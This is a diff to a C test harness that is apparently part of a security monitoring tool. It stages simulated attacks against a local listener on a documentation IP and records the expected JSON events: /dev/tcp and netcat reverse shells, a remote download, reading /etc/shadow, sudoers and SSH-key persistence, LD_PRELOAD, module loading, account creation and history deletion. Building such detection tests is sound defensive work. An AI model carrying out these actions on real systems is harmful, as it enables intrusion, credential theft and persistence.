@@ -26,6 +26,7 @@
 #include <arpa/inet.h>
 #include <errno.h>
 #include <fcntl.h>
+#include <limits.h>
 #include <net/if.h>
 #include <netinet/in.h>
 #include <poll.h>
@@ -74,6 +75,17 @@ static int err_result(int rc)
 	return rc < 0 ? -errno : rc;
 }
 
+/*
+ * ,"<key>":"<path resolved>": what the kernel reports as EXEC exe_path for an
+ * exec of path (symlinks resolved: /bin/sh -> /bin/busybox), "" when it cannot.
+ */
+static void out_resolved(const char *key, const char *path)
+{
+	char buf[PATH_MAX];
+
+	out(",\"%s\":\"%s\"", key, realpath(path, buf) ? buf : "");
+}
+
 /* Waits for a child and returns its exit status (or 128+signal). */
 static int reap(pid_t pid)
 {
@@ -103,8 +115,10 @@ static void step_exec(void)
 
 	out(",\"exec\":{\"pid\":%d,\"filename\":\"/bin/true\","
 	    "\"argv\":[\"/bin/true\",\"a\",\"b\",\"c\"],"
-	    "\"ldPreload\":\"/tmp/vigil-preload.so\",\"exitCode\":%d}",
+	    "\"ldPreload\":\"/tmp/vigil-preload.so\",\"exitCode\":%d",
 	    (int)pid, code);
+	out_resolved("resolved", argv[0]);
+	out("}");
 }
 
 /* A child that exits with a known code (fork + exit hooks). */
@@ -302,6 +316,26 @@ static void step_memfd(void)
 	    (int)getpid(), MEMFD_NAME, rc, (int)pid, code);
 }
 
+/*
+ * busybox sh runs its applets by re-executing itself through /proc/self/exe
+ * (argv[0] = the applet): sh -c 'cat /dev/null; exit 0' forks and execs
+ * "/proc/self/exe" as cat. The sh is this program's child; the cat is its
+ * child. "resolved" is what both run: /bin/sh resolved.
+ */
+static pid_t spawn(const char *path, char *const argv[]);
+
+static void step_proc_self_exe(void)
+{
+	char *argv[] = { "sh", "-c", "cat /dev/null; exit 0", NULL };
+	pid_t pid = spawn("/bin/sh", argv);
+	int code = pid < 0 ? -errno : reap(pid);
+
+	out(",\"procSelfExe\":{\"pid\":%d,\"applet\":\"cat\",\"exitCode\":%d",
+	    (int)pid, code);
+	out_resolved("resolved", "/bin/sh");
+	out("}");
+}
+
 /* ---- attacker actions ------------------------------------------------- */
 
 #define REMOTE_IP "192.0.2.10"
@@ -390,9 +424,10 @@ static void out_argv(char *const argv[])
 }
 
 /*
- * Runs argv as a command: {"pid":..,"executable":..,"argv":[..],"exitCode":..};
- * for a script, "interpreter" names its #! line (the kernel then reports
- * argv as interpreter, script path, arguments).
+ * Runs argv as a command: {"pid":..,"executable":..,"resolved":..,"argv":[..],
+ * "exitCode":..}; for a script, "interpreter" names its #! line (the kernel
+ * then reports argv as interpreter, script path, arguments, and the
+ * interpreter as the file that runs: "resolved").
  */
 static void run_script(const char *key, const char *path, char *const argv[],
 		       const char *interpreter)
@@ -405,6 +440,7 @@ static void run_script(const char *key, const char *path, char *const argv[],
 	out_argv(argv);
 	if (interpreter)
 		out(",\"interpreter\":\"%s\"", interpreter);
+	out_resolved("resolved", interpreter ? interpreter : path);
 	out(",\"exitCode\":%d}", code);
 }
 
@@ -480,9 +516,14 @@ static int serve_one(int lfd, int read_request, const char *reply)
 	return 1;
 }
 
-/* A shell or tool connecting to a listener of this program on ip:port. */
+/*
+ * A shell or tool connecting to a listener of this program on ip:port. With
+ * `shell`, the program that then runs on the connection (exec'd with the
+ * socket as stdin/stdout): "shell" and "shellResolved" in the JSON.
+ */
 static void connect_back(const char *key, const char *path, char *const argv[],
-			 const char *ip, int port, int read_request, const char *reply)
+			 const char *ip, int port, int read_request, const char *reply,
+			 const char *shell)
 {
 	int lfd = listen_tcp(ip, port);
 	pid_t pid = lfd < 0 ? -1 : spawn(path, argv);
@@ -494,6 +535,11 @@ static void connect_back(const char *key, const char *path, char *const argv[],
 	entry_begin(key);
 	out("\"pid\":%d,\"executable\":\"%s\",", (int)pid, path);
 	out_argv(argv);
+	out_resolved("resolved", path);
+	if (shell) {
+		out(",\"shell\":\"%s\"", shell);
+		out_resolved("shellResolved", shell);
+	}
 	out(",\"remoteIp\":\"%s\",\"port\":%d,\"connected\":%d,\"exitCode\":%d}",
 	    ip, port, served, code);
 }
@@ -643,8 +689,10 @@ static void attack_privesc_shadow(void)
 	entry_begin("privesc");
 	out("\"pid\":%d,\"uid\":%d,\"dropResult\":%d,\"regainResult\":%d,"
 	    "\"rootResult\":%d,\"executable\":\"/bin/cat\","
-	    "\"argv\":[\"cat\",\"/etc/shadow\"],\"exitCode\":%d}",
+	    "\"argv\":[\"cat\",\"/etc/shadow\"],\"exitCode\":%d",
 	    (int)pid, UNPRIVILEGED_UID, rc[0], rc[1], rc[2], code);
+	out_resolved("resolved", "/bin/cat");
+	out("}");
 }
 
 /* A dropper copied into /tmp and run from there (this program, as a no-op beacon). */
@@ -705,9 +753,11 @@ static void step_attacks(void)
 	run_command("sudoers", "/bin/sh", sudoers);
 	attack_ld_preload();
 	run_command("authorizedKeys", "/bin/sh", keys);
-	connect_back("devTcp", "/bin/bash", dev_tcp, REMOTE_IP, PORT_DEV_TCP, 0, "exit\n");
-	connect_back("netcat", "/bin/nc", netcat, REMOTE_IP, PORT_NETCAT, 0, "exit\n");
-	connect_back("download", "/bin/sh", download, REMOTE_IP, PORT_HTTP, 1, http_reply);
+	/* bash forks, redirects the socket onto 0-2 and execs `bash -i` (PATH: /bin/bash). */
+	connect_back("devTcp", "/bin/bash", dev_tcp, REMOTE_IP, PORT_DEV_TCP, 0, "exit\n",
+		     "/bin/bash");
+	connect_back("netcat", "/bin/nc", netcat, REMOTE_IP, PORT_NETCAT, 0, "exit\n", "/bin/sh");
+	connect_back("download", "/bin/sh", download, REMOTE_IP, PORT_HTTP, 1, http_reply, NULL);
 	run_command("moduleLoad", "/bin/insmod", insmod);
 	run_script("accountCreation", "/usr/sbin/useradd", useradd, "/bin/sh");
 	run_command("historyDelete", "/bin/rm", rm_history);
@@ -731,8 +781,9 @@ static void step_benign(void)
 	group_begin("benign");
 	run_command("catPasswd", "/bin/cat", passwd);
 	run_command("motd", "/bin/sh", motd);
-	connect_back("probeStandardPort", "/bin/bash", probe_std, REMOTE_IP, PORT_PROBE_STD, 0, NULL);
-	connect_back("probeLoopback", "/bin/bash", probe_lo, "127.0.0.1", 4446, 0, NULL);
+	connect_back("probeStandardPort", "/bin/bash", probe_std, REMOTE_IP, PORT_PROBE_STD, 0, NULL,
+		     NULL);
+	connect_back("probeLoopback", "/bin/bash", probe_lo, "127.0.0.1", 4446, 0, NULL, NULL);
 	out("}");
 }
 
@@ -756,6 +807,7 @@ int main(int argc, char **argv)
 	step_files(dir);
 	step_dns();
 	step_memfd();
+	step_proc_self_exe();
 	setup_victim_host();
 	step_attacks();
 	step_benign();
